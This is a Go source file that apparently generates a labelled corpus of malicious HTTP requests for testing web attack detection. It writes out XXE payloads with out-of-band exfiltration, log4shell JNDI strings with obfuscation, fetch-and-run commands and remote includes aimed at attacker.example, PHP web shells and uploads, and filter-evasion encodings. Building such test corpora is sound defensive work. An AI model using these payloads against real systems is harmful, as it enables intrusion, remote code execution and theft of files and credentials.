package corpus

import (
	"encoding/binary"
	"fmt"
	"strings"
	"unicode/utf16"
)

// The classes that are about a format or a wrapping rather than one language: XXE and
// XInclude, SOAP bodies, base64-wrapped payloads, payloads in custom headers and
// cookies, JNDI lookups (log4shell), unusual and custom methods, PHP and other code
// injection.

var xxeDocs = []struct{ doc, note string }{
	{`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r><name>&x;</name></r>`, "external entity, file"},
	{`<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE order [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><order><id>1</id></order>`, "parameter entity, remote DTD"},
	{`<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><r>1</r>`, "external DTD"},
	{`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">]><r>&x;</r>`, "entity, php://filter"},
	{`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "expect://id">]><r>&x;</r>`, "entity, expect://"},
	{`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "netdoc:///etc/passwd">]><r>&x;</r>`, "entity, netdoc://"},
	{`<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>`, "entity expansion (billion laughs)"},
	{`<?xml version="1.0"?><r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></r>`, "XInclude"},
	{`<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://attacker.example/secret.xml"/></foo>`, "XInclude, remote"},
	{`<?xml version="1.0"?><!DOCTYPE data [<!ENTITY % file SYSTEM "file:///etc/hostname"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://attacker.example/?x=%file;'>">%eval;%exfil;]><data>1</data>`, "out-of-band exfiltration"},
	{`<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]><foo>&xxe;</foo>`, "external entity, Windows file"},
	{`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]><r>&x;</r>`, "entity, SSRF to metadata"},
}

func genXXE(r *rng, i int) Request {
	d := xxeDocs[i%len(xxeDocs)]
	note := "XXE, " + d.note
	switch (i / len(xxeDocs)) % 5 {
	case 1: // an SVG image upload
		svg := strings.Replace(d.doc, "<r>", `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><text x="0" y="10">`, 1)
		svg = strings.Replace(svg, "</r>", "</text></svg>", 1)
		v := newVisitor(r)
		s := pickWeighted(r, sites)
		body, ctype := multipartBody(r, v.b.family, []part{{name: "title", data: []byte("logo")}, {name: "file", filename: "logo.svg", ctype: "image/svg+xml", data: []byte(svg)}})
		req := formPost(r, v, s, "/profile/avatar", body, ctype)
		req.Place, req.Note = inMultipart, note+", in an SVG upload"
		return req
	case 2: // UTF-16 encoded, an evasion for filters that read bytes as ASCII
		doc := strings.Replace(d.doc, `<?xml version="1.0"?>`, `<?xml version="1.0" encoding="UTF-16"?>`, 1)
		u := utf16.Encode([]rune(doc))
		b := []byte{0xff, 0xfe}
		for _, c := range u {
			b = binary.LittleEndian.AppendUint16(b, c)
		}
		req := xmlRequest(r, b, "application/xml", "/api/v1/import")
		req.Note = note + ", UTF-16"
		return req
	case 3: // XML in a form field
		req := attackRequest(r, payload{value: d.doc, place: inForm, param: pick(r, "xml", "data", "feed"), note: note + ", XML in a form field"})
		return req
	}
	req := xmlRequest(r, []byte(d.doc), pick(r, "application/xml", "text/xml", "application/xml; charset=utf-8"), pick(r, "/api/v1/import", "/xmlrpc.php", "/api/orders", "/feed/upload"))
	req.Note = note
	return req
}

var soapInner = []struct{ v, note string }{
	{"' OR '1'='1", "SQL injection"}, {"1 UNION SELECT password FROM users--", "SQL injection"}, {"<![CDATA[' OR 1=1--]]>", "SQL injection in CDATA"},
	{"&#39; OR &#39;1&#39;=&#39;1", "SQL injection, character references"}, {"&lt;script&gt;alert(1)&lt;/script&gt;", "XSS, escaped markup"},
	{"<![CDATA[<script>alert(1)</script>]]>", "XSS in CDATA"}, {"; cat /etc/passwd", "command injection"}, {"$(id)", "command injection"},
	{"../../../../etc/passwd", "path traversal"}, {"${jndi:ldap://attacker.example/a}", "JNDI lookup"}, {"{{7*7}}${7*7}", "template injection"},
	{"*)(uid=*))(|(uid=*", "LDAP injection"},
}

func genSOAP(r *rng, i int) Request {
	in := soapInner[i%len(soapInner)]
	op := pick(r, "GetAccount", "Login", "SearchProducts", "GetInvoice", "UpdateProfile")
	field := pick(r, "accountId", "username", "query", "invoiceNumber", "email")
	soap12 := r.chance(0.4)
	env := "http://schemas.xmlsoap.org/soap/envelope/"
	if soap12 {
		env = "http://www.w3.org/2003/05/soap-envelope"
	}
	header := ""
	if r.chance(0.4) {
		header = `<soap:Header><wsse:Security xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd"><wsse:UsernameToken><wsse:Username>api</wsse:Username><wsse:Password>` + r.alnum(16) + `</wsse:Password></wsse:UsernameToken></wsse:Security></soap:Header>`
	}
	doc := fmt.Sprintf(`<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="%s" xmlns:tns="http://example.com/ws">%s<soap:Body><tns:%s><tns:%s>%s</tns:%s><tns:locale>en-US</tns:locale></tns:%s></soap:Body></soap:Envelope>`,
		env, header, op, field, in.v, field, op)
	if (i/len(soapInner))%4 == 3 {
		doc = strings.Replace(doc, `<?xml version="1.0" encoding="utf-8"?>`, `<?xml version="1.0" encoding="utf-8"?><!DOCTYPE soap:Envelope [<!ENTITY x SYSTEM "file:///etc/passwd">]>`, 1)
		doc = strings.Replace(doc, "<tns:locale>en-US</tns:locale>", "<tns:locale>&x;</tns:locale>", 1)
		in.note += " and an external entity"
	}
	var req Request
	if soap12 {
		req = xmlRequest(r, []byte(doc), `application/soap+xml; charset=utf-8; action="http://example.com/ws/`+op+`"`, "/ws/"+pick(r, "AccountService", "ProductService")+".asmx")
	} else {
		req = xmlRequest(r, []byte(doc), "text/xml; charset=utf-8", "/ws/"+pick(r, "AccountService", "ProductService")+".asmx", `SOAPAction: "http://example.com/ws/`+op+`"`)
	}
	req.Note = "SOAP body carrying " + in.note
	return req
}

// base64Inner are payloads of the other classes that applications decode from base64
// (state, token, data, redirect parameters) before use.
var base64Inner = []struct{ v, note string }{
	{"' OR '1'='1' -- ", "SQL injection"}, {"1 UNION SELECT username,password FROM users", "SQL injection"}, {`{"user":"admin' OR 1=1--","role":"user"}`, "SQL injection in JSON"},
	{"<script>alert(document.cookie)</script>", "XSS"}, {"<img src=x onerror=alert(1)>", "XSS"}, {"../../../../etc/passwd", "path traversal"},
	{"; cat /etc/passwd", "command injection"}, {"$(curl attacker.example/x|sh)", "command injection"}, {"{{7*7}}{{config}}", "template injection"},
	{"${jndi:ldap://attacker.example/a}", "JNDI lookup"}, {"<?php system($_GET['c']); ?>", "PHP code"}, {`O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}`, "PHP object"},
	{`{"$where":"sleep(5000)"}`, "NoSQL operators"}, {"javascript:alert(1)", "XSS URL"}, {`<!--#exec cmd="id" -->`, "SSI"},
	{"http://169.254.169.254/latest/meta-data/", "SSRF target"}, {`{"redirect":"javascript:alert(1)","next":"../../admin"}`, "XSS and traversal in JSON"},
}

func genBase64(r *rng, i int) Request {
	in := base64Inner[i%len(base64Inner)]
	enc, how := b64Variant(i/len(base64Inner)+r.IntN(2), in.v)
	note := in.note + ", wrapped in " + how
	switch pick(r, inQuery, inQuery, inQuery, inForm, inJSON, inJSON, inCookie, inHeader) {
	case inForm:
		return attackRequest(r, payload{value: enc, place: inForm, param: pick(r, "data", "payload", "state"), note: note})
	case inJSON:
		return attackRequest(r, payload{value: enc, place: inJSON, param: pick(r, "data", "payload", "token", "state"), note: note})
	case inCookie:
		return attackRequest(r, payload{value: enc, place: inCookie, param: pick(r, "prefs", "session_data", "state"), note: note})
	case inHeader:
		return attackRequest(r, payload{value: enc, place: inHeader, param: pick(r, "X-Data", "X-Client-Context", "X-Forwarded-User"), note: note})
	}
	return attackRequest(r, payload{value: enc, place: inQuery, param: pick(r, "data", "state", "token", "redirect", "q", "filter"), note: note})
}

// headerInner are payloads in custom request headers and cookies: values an
// application reads from a header it trusts (a tenant, a forwarded host, a device id,
// an API version) or a cookie it parses.
var headerInner = []struct{ v, note string }{
	{"1' OR '1'='1", "SQL injection"}, {"1 AND SLEEP(5)", "SQL injection"}, {"'; DROP TABLE sessions;--", "SQL injection"},
	{"<script>alert(1)</script>", "XSS"}, {"\"><img src=x onerror=alert(1)>", "XSS"}, {"../../../../etc/passwd", "path traversal"},
	{"; cat /etc/passwd", "command injection"}, {"$(id)", "command injection"}, {"{{7*7}}", "template injection"}, {"<!--#exec cmd=\"id\" -->", "SSI"},
	{"*)(uid=*))(|(uid=*", "LDAP injection"}, {"<?php system('id'); ?>", "PHP code"}, {"/admin/../../etc/passwd", "path traversal via URL override"},
	{"attacker.example\"><script>alert(1)</script>", "XSS via forwarded host"}, {"1 UNION SELECT NULL,version()--", "SQL injection"},
}

func genHeader(r *rng, i int) Request {
	in := headerInner[i%len(headerInner)]
	if i%2 == 1 {
		return attackRequest(r, payload{value: in.v, place: inCookie, param: pick(r, "tenant", "user_id", "prefs", "lang", "cart", "ab_test"), note: in.note + " in a cookie"})
	}
	return attackRequest(r, payload{value: in.v, place: inHeader, param: pick(r, "X-Tenant-Id", "X-Forwarded-Host", "X-Device-Id", "X-Api-Version", "X-Original-URL", "X-User-Id", "X-Correlation-Id", "True-Client-IP", "X-Client-IP"), note: in.note + " in a custom header"})
}

var jndiBases = []string{
	"${jndi:ldap://attacker.example:1389/a}", "${jndi:ldaps://attacker.example/a}", "${jndi:rmi://attacker.example:1099/a}", "${jndi:dns://attacker.example/a}",
	"${jndi:iiop://attacker.example/a}", "${jndi:corba://attacker.example/a}", "${jndi:nds://attacker.example/a}", "${jndi:http://attacker.example/a}",
	"${${lower:j}ndi:${lower:l}dap://attacker.example/a}", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://attacker.example/a}",
	"${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/a}", "${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/a}",
	"${${upper:j}ndi:ldap://attacker.example/a}", "${j${k8s:k5:-ND}i:ldap://attacker.example/a}", "${jndi:dns://${env:USER}.attacker.example}",
	"${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/a}", "${jndi:ldap://127.0.0.1#attacker.example/a}",
	"${${sys:os.name:-j}ndi:ldap://attacker.example/a}", "${jndi:ldap://attacker.example/${java:version}}", "${${lower:${lower:jndi}}:${lower:rmi}://attacker.example/a}",
}

func genJNDI(r *rng, i int) Request {
	v := jndiBases[i%len(jndiBases)]
	note := "JNDI lookup (log4shell)"
	switch pick(r, inHeader, inHeader, inHeader, inQuery, inForm, inJSON, inCookie) {
	case inQuery:
		return attackRequest(r, payload{value: v, place: inQuery, param: pick(r, "q", "search", "username", "x"), note: note})
	case inForm:
		return attackRequest(r, payload{value: v, place: inForm, param: pick(r, "username", "email", "comment"), note: note})
	case inJSON:
		return attackRequest(r, payload{value: v, place: inJSON, param: pick(r, "username", "deviceName", "message"), note: note})
	case inCookie:
		return attackRequest(r, payload{value: v, place: inCookie, param: pick(r, "JSESSIONID", "lang", "tracking"), note: note})
	}
	return attackRequest(r, payload{value: v, place: inHeader, param: pick(r, "User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For", "Authorization", "X-Request-Id"), note: note})
}

// genMethod makes requests with methods a web site does not serve: WebDAV, debugging
// and cache-purging methods, tokens nobody defined, and the method-override headers
// that smuggle such a method through a POST or GET.
func genMethod(r *rng, i int) Request {
	v := newVisitor(r)
	s := pickWeighted(r, sites)
	methods := []string{"TRACE", "TRACK", "DEBUG", "PROPFIND", "PROPPATCH", "MKCOL", "COPY", "MOVE", "LOCK", "UNLOCK", "SEARCH", "PURGE", "BAN", "CHECKOUT", "MERGE",
		"JEFF", "FOOBAR", "HACK", "GETS", "G3T", "AAAAAAAA", "QWERTY", "XYZZY", "BREW", "LINK", "UNLINK", "REPORT", "SUBSCRIBE", "NOTIFY", "INDEX"}
	h := []string{"Host: " + s.host, "User-Agent: " + v.b.ua, "Accept: */*", "Accept-Encoding: gzip, deflate, br", "Connection: keep-alive"}
	if i%3 == 2 { // a method override
		m := pick(r, "TRACE", "DEBUG", "PROPFIND", "TRACK", "MOVE", "CONNECT")
		name := pick(r, "X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override")
		req := Request{Method: pick(r, "POST", "GET"), Target: page(r, s, v), Header: append(h, name+": "+m), Place: inHeader, Note: "method override to " + m}
		if req.Method == "POST" {
			req.Header = append(req.Header, "Content-Type: application/x-www-form-urlencoded", "Content-Length: 0")
		}
		return req
	}
	m := methods[(i*2/3)%len(methods)]
	req := Request{Method: m, Target: pick(r, "/", "/index.php", "/uploads/", "/api/v1/items", "/admin/"), Header: h, Place: inMethod, Note: "method " + m}
	if m == "PROPFIND" || m == "SEARCH" || m == "LOCK" {
		body := `<?xml version="1.0" encoding="utf-8"?><D:propfind xmlns:D="DAV:"><D:allprop/></D:propfind>`
		req.Header = append(req.Header, "Depth: 1", "Content-Type: application/xml", "Content-Length: "+itoa(len(body)))
		req.setBody([]byte(body))
	}
	return req
}

var phpBases = []string{
	"<?php system($_GET['c']); ?>", "<?php echo shell_exec('id'); ?>", "<?= `id` ?>", "<?php eval(base64_decode('ZWNobyAxOw==')); ?>", "phpinfo();", "system('id');",
	"passthru('cat /etc/passwd');", "eval($_POST['x']);", "assert($_REQUEST['c']);", "php://filter/convert.base64-encode/resource=index.php", "php://input",
	"data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==", "expect://id", "phar://uploads/avatar.jpg/test.txt", "zip://uploads/x.zip#shell.php",
	`O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}`, `a:2:{i:0;s:4:"test";i:1;O:4:"Evil":0:{}}`, "${@phpinfo()}", "{${system('id')}}",
	"preg_replace('/.*/e','system(\"id\")','')", "call_user_func('system','id')", "array_map('system',array('id'))", "create_function('','system(\"id\");')",
	"file_put_contents('shell.php','<?php system($_GET[0]);')", "include('http://attacker.example/shell.txt');", "__import__('os').system('id')",
	"eval(compile('import os;os.system(\"id\")','','exec'))", "require('child_process').exec('id')", "process.mainModule.require('child_process').execSync('id')",
	"Runtime.getRuntime().exec(\"id\")", "Kernel.exec('id')",
}

func genPHP(r *rng, i int) Request {
	v := phpBases[i%len(phpBases)]
	note := "code injection"
	if strings.Contains(v, "php") || strings.HasPrefix(v, "<?") || strings.Contains(v, "O:") || strings.Contains(v, "a:2") {
		note = "PHP code injection"
	}
	switch pick(r, inQuery, inQuery, inForm, inJSON, inCookie, inMultipart, inHeader) {
	case inForm:
		return attackRequest(r, payload{value: v, place: inForm, param: pick(r, "code", "data", "comment", "file"), note: note})
	case inJSON:
		return attackRequest(r, payload{value: v, place: inJSON, param: pick(r, "expression", "code", "filter", "template"), note: note})
	case inCookie:
		return attackRequest(r, payload{value: v, place: inCookie, param: pick(r, "session", "prefs", "cart"), note: note})
	case inMultipart:
		if strings.HasPrefix(v, "<?") {
			vis := newVisitor(r)
			s := pickWeighted(r, sites)
			body, ctype := multipartBody(r, vis.b.family, []part{{name: "title", data: []byte("avatar")}, {name: "file", filename: pick(r, "shell.php", "avatar.php.jpg", "image.phtml", "x.php5"), ctype: pick(r, "image/jpeg", "application/x-php"), data: []byte("GIF89a" + v)}})
			req := formPost(r, vis, s, "/profile/avatar", body, ctype)
			req.Place, req.Note = inMultipart, note+", a web shell upload"
			return req
		}
		return attackRequest(r, payload{value: v, place: inMultipart, param: "description", note: note})
	case inHeader:
		return attackRequest(r, payload{value: v, place: inHeader, param: pick(r, "User-Agent", "Referer", "X-Forwarded-For"), note: note + ", log poisoning"})
	}
	return attackRequest(r, payload{value: v, place: inQuery, param: pick(r, "page", "file", "cmd", "code", "lang", "include"), note: note})
}
